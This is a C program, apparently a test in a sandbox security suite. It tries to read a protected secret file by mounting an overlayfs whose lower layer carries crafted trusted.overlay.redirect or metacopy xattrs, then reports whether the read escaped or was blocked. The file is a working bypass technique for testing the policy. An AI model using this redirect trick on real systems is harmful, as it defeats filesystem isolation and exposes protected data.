/* fs_overlay_redirect.c: an overlay whose layers pass the layer comparison (every name P
 * granted alike at LAYER/P and at the overlay's target's P) shows the secret at a name the
 * table reads, by a redirect (overlay30; docs/security.md "Review 29", left alone there).
 *
 *   fs_overlay_redirect MODE SECRET MID TARGET [OPTIONS]
 *
 * SECRET is ROOT/secd/secret.txt; MID and TARGET directories outside ROOT (a layer may not
 * hold another; a target inside ROOT would show ROOT again below itself).  The overlay on
 * TARGET has the lower layers MID (above) and ROOT, and OPTIONS (more mount options, "" for
 * none), in a private mount namespace (root):
 *
 *   dir       MID/x is a directory whose trusted.overlay.redirect is "/secd": the kernel
 *             follows it (redirect_dir=follow, this kernel's default where
 *             redirect_always_follow is set) and merges ROOT/secd below TARGET/x.
 *             Reads TARGET/x/secret.txt.
 *   metacopy  MID/y is a metacopy file (trusted.overlay.metacopy) whose redirect is
 *             "/secd/secret.txt": its data is the secret's (needs metacopy=on in OPTIONS).
 *             Reads TARGET/y.
 *
 * ESCAPED when the secret was read at TARGET/...; BLOCKED with the failing step's errno.
 */
#include "attack.h"

#include <libgen.h>
#include <limits.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/xattr.h>

int main(int argc, char **argv) {
    if (argc != 5 && argc != 6)
        blocked("usage: %s MODE SECRET MID TARGET [OPTIONS]", argv[0]);
    const char *mode = argv[1], *secret = argv[2], *mid = argv[3], *target = argv[4];
    const char *extra = argc == 6 ? argv[5] : "";
    char root[PATH_MAX], layer[PATH_MAX + 8], path[PATH_MAX + 32];
    char options[PATH_MAX * 3];
    char copy[PATH_MAX];
    snprintf(copy, sizeof copy, "%s", secret);
    snprintf(root, sizeof root, "%s", dirname(dirname(copy)));
    int dir = strcmp(mode, "dir") == 0;
    if (!dir && strcmp(mode, "metacopy") != 0)
        blocked("unknown mode %s", mode);
    if (unshare(CLONE_NEWNS) < 0)
        blocked("unshare: %s", ename(errno));
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        blocked("making mounts private: %s", ename(errno));
    if (dir) {
        snprintf(layer, sizeof layer, "%s/x", mid);
        if (mkdir(layer, 0755) < 0 && errno != EEXIST)
            blocked("mkdir %s: %s", layer, ename(errno));
        if (setxattr(layer, "trusted.overlay.redirect", "/secd", 5, 0) < 0)
            blocked("setxattr %s: %s", layer, ename(errno));
        snprintf(path, sizeof path, "%s/x/secret.txt", target);
    } else {
        snprintf(layer, sizeof layer, "%s/y", mid);
        int fd = open(layer, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0)
            blocked("creat %s: %s", layer, ename(errno));
        close(fd);
        /* the data's size is the metacopy's own (st_size is not read from the data) */
        if (truncate(layer, (off_t)strlen(SECRET_MAGIC) + 1) < 0)
            blocked("truncate %s: %s", layer, ename(errno));
        if (setxattr(layer, "trusted.overlay.metacopy", "", 0, 0) < 0)
            blocked("setxattr metacopy %s: %s", layer, ename(errno));
        if (setxattr(layer, "trusted.overlay.redirect", "/secd/secret.txt", 16, 0) < 0)
            blocked("setxattr redirect %s: %s", layer, ename(errno));
        snprintf(path, sizeof path, "%s/y", target);
    }
    snprintf(options, sizeof options, "lowerdir=%s:%s%s%s", mid, root, *extra ? "," : "", extra);
    if (mount("overlay", target, "overlay", 0, options) < 0) {
        if (errno == ENODEV)
            skipped("overlay: %s", ename(errno));
        blocked("mount overlay %s: %s", target, ename(errno));
    }
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        blocked("open %s: %s", path, ename(errno));
    if (is_secret_fd(fd))
        escaped("read the secret through %s", path);
    blocked("%s is not the secret", path);
}
